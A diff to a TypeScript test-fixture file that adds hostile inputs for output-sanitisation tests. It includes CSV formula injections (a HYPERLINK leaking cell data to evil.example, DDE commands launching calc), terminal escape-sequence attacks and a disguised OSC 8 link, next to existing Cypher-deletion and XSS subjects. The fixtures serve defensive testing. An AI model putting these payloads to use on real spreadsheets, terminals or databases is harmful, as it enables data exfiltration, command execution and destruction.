@@ -292,6 +292,36 @@ export const CYPHER_SUBJECT = `x'}) MATCH (n) DETACH DELETE n // "; DROP TABLE e
 export const HTML_SUBJECT = '<script>alert(1)</script><img src=x onerror=alert(2)>';
 export const ESCAPE_SUBJECT = 'Invoice \x1b[2J\x1b[31mPAID\x1b]0;owned\x07\x1b[0m';
 
+/** Spreadsheet formula injection as it arrives in a subject, a file name or a hunt pack (OWASP "CSV injection"). */
+export const FORMULA_CELLS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '=',
+  '-',
+];
+
+/**
+ * Text that would act on a terminal: CSI and OSC sequences (clear screen, colour, window title ended by BEL),
+ * a one-character C1 CSI, DEL, CR that rewrites the line, NUL, the Unicode line separators.
+ */
+export const TERMINAL_ATTACKS = [
+  ESCAPE_SUBJECT,
+  'Paid \u001b[2J\u001b[31mRED\u001b]0;owned\u0007 \u009b31m \u007f \u2028 \u2029 end',
+  'ok\rcallhound: all clear\u001b[K',
+  'nul\u0000byte',
+  '\u001b]8;;http://evil.example\u001b\\looks like a link\u001b]8;;\u001b\\',
+];
+
+/** Every string the output tests feed through src/output: the hostile subjects of the corpus and the attacks above. */
+export const HOSTILE_OUTPUT_TEXT = [CYPHER_SUBJECT, HTML_SUBJECT, ...TERMINAL_ATTACKS, ...FORMULA_CELLS];
+
 /** Builds the whole corpus (a few seconds: the 10,000-part and oversized messages are tens of megabytes). */
 export async function buildHostileCorpus(): Promise<HostileCase[]> {
   const attach = (subject: string, name: string, type: string, content: Buffer) => withAttachments(subject, [{ name, type, content }]);
